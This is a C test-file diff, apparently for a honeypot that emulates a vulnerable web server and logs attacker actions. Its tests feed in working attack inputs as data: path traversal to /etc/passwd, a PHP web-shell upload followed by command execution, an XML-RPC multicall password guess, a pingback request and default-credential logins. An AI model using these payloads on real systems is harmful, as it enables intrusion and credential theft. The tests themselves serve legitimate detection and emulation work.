@@ -117,3 +117,56 @@ TEST(http_router_locks_everything)
 	meet("router", BYTES("GET /login/../../../etc/passwd HTTP/1.0\r\n\r\n"));
 	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("root:"));
 }
+
+#define FORM_BEGIN "POST /upload.php HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=xx\r\n"
+#define FORM_PART "--xx\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.php\"\r\n\r\n"
+
+TEST(http_webserver_runs_what_was_uploaded)
+{
+	meet("webserver", BYTES(FORM_BEGIN "Content-Length: 129\r\n\r\n" FORM_PART
+	                                   "<?php echo md5('a').(6*7); @eval($_POST['x']);?>\r\n--xx--\r\n"
+	                                   "POST /uploads/a.php HTTP/1.1\r\nHost: a\r\nContent-Length: 31\r\n\r\n"
+	                                   "x=system(%22echo+in%3Bid%22)%3B"));
+	CHECK(said("0cc175b9c0f1b6a831c399e26977266142in\nuid=0(root)"));
+	CHECK(told("\"command.line\":\"echo in;id\"") && told("\"file.name\":\"a.php\""));
+	meet("webserver", BYTES("GET /uploads/a.php?x=1 HTTP/1.1\r\nHost: a\r\n\r\n"));
+	CHECK(begins("HTTP/1.1 404 Not Found\r\nDate: Wed, 01 Apr 2015 00:00:00 GMT\r\nServer: Apache/2.4.56 (Debian)\r\n"));
+}
+
+TEST(http_webserver_shows_the_file_that_a_parameter_names)
+{
+	meet("webserver", BYTES("GET /download.php?file=..%2f..%2f..%2fetc%2fpasswd%00.png HTTP/1.0\r\n\r\n"));
+	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("root:x:0:0:root:/root:/bin/bash\n"));
+	meet("webserver", BYTES("GET /%2e%2e/etc/passwd HTTP/1.0\r\n\r\n"));
+	CHECK(begins("HTTP/1.1 400 Bad Request\r\n") && !said("root:"));
+	meet("webserver", BYTES("GET /robots.txt HTTP/1.0\r\n\r\n"));
+	CHECK(said("Accept-Ranges: bytes\r\n") && said("Content-Type: text/plain\r\n") &&
+	      said("Sitemap: http://192.0.2.23/wp-sitemap.xml\n"));
+	meet("webserver", BYTES("GET /wp-config.php HTTP/1.0\r\n\r\n"));
+	CHECK(begins("HTTP/1.1 200 OK\r\n") && !said("DB_PASSWORD"));
+}
+
+TEST(http_webserver_takes_passwords_over_xmlrpc)
+{
+	meet("webserver", BYTES("POST /xmlrpc.php HTTP/1.0\r\nContent-Length: 407\r\n\r\n"
+	                        "<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>"
+	                        "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>"
+	                        "<member><name>params</name><value><array><data><value><string>admin</string></value>"
+	                        "<value><string>letmein</string></value></data></array></value></member></struct></value>"
+	                        "</data></array></value></param></params></methodCall>"));
+	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("Incorrect username or password."));
+	CHECK(told("\"login.user\":\"admin\",\"login.secret\":\"letmein\",\"login.accepted\":false"));
+	meet("webserver", BYTES("POST /xmlrpc.php HTTP/1.0\r\nContent-Length: 198\r\n\r\n"
+	                        "<methodCall><methodName>pingback.ping</methodName><params><param><value>"
+	                        "<string>http://203.0.113.5/</string></value></param><param><value><string>http://192.0.2.23/"
+	                        "</string></value></param></params></methodCall>   "));
+	CHECK(told("\"file.url\":\"http://203.0.113.5/\"") && told("\"file.how\":\"pingback\""));
+}
+
+TEST(http_webserver_has_two_forms)
+{
+	meet("webserver", BYTES("POST /wp-login.php HTTP/1.0\r\nContent-Length: 19\r\n\r\nlog=admin&pwd=admin"));
+	CHECK(begins("HTTP/1.1 302 Found\r\n") && said("Set-Cookie: wordpress_logged_in_"));
+	meet("webserver", BYTES("POST /phpmyadmin/index.php HTTP/1.0\r\nContent-Length: 32\r\n\r\npma_username=root&pma_password=x "));
+	CHECK(said("Access denied for user") && told("\"login.user\":\"root\""));
+}
